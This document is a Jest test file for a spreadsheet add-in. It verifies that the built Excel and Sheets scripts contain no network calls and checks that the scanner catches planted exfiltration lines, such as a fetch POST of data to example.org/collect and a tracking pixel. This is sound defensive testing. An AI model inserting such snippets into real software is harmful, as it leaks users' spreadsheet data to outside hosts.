/**
 * No data leaves the workbook (docs/DESIGN.md, rule 7; SECURITY.md): the BUILT scripts of both hosts
 * contain no way to send anything anywhere. The only thing fetched from the network is Office.js
 * (and its custom-functions runtime) from Microsoft, by the Excel pages' own <script> tags.
 */
import fs from "fs";
import path from "path";
import { DIST } from "../helpers/bundles";
import { networkProblems } from "./scan";

/** Every built script users load: the Excel functions and pane, the Sheets script, the demo. */
function builtScripts(): string[] {
  const folders = ["excel-addin", "sheets-addon", "demo"];
  return folders.flatMap((folder) => {
    const dir = path.join(DIST, folder);
    if (!fs.existsSync(dir)) return [];
    return fs
      .readdirSync(dir)
      .filter((file) => file.endsWith(".js"))
      .map((file) => path.join(folder, file));
  });
}

describe("the built scripts make no network calls", () => {
  const scripts = builtScripts();

  test("the build produced the scripts users load", () => {
    for (const file of ["excel-addin/functions.js", "excel-addin/taskpane.js", "sheets-addon/Code.js"]) expect(scripts).toContain(file);
  });

  test.each(scripts)("%s has no fetch, XMLHttpRequest, WebSocket, sendBeacon or other way out", (file) => {
    const text = fs.readFileSync(path.join(DIST, file), "utf8");
    expect(networkProblems(text)).toEqual([]);
  });

  test("the check itself finds each way out", () => {
    const planted = [
      'fetch("https://example.org/collect", { method: "POST", body: data })',
      "var x = new XMLHttpRequest();",
      'new WebSocket("wss://example.org")',
      'navigator.sendBeacon("/t", data)',
      'UrlFetchApp.fetch("https://example.org")',
      'var s = document.createElement("script");',
      'SpreadsheetApp.openById("abc")',
      "img.src = 'https://tracker.example.net/p.gif'",
    ];
    for (const text of planted) expect(networkProblems(text).length).toBeGreaterThan(0);
    expect(networkProblems('<script src="https://appsforoffice.microsoft.com/lib/1/hosted/office.js">')).toEqual([]);
    expect(networkProblems('createElementNS("http://www.w3.org/2000/svg", "svg")')).toEqual([]);
    expect(networkProblems('t="http://schemas.openxmlformats.org/spreadsheetml/2006/main"')).toEqual([]);
    expect(networkProblems('t="https://schemas.openxmlformats.example.net/collect"')).not.toEqual([]);
  });
});
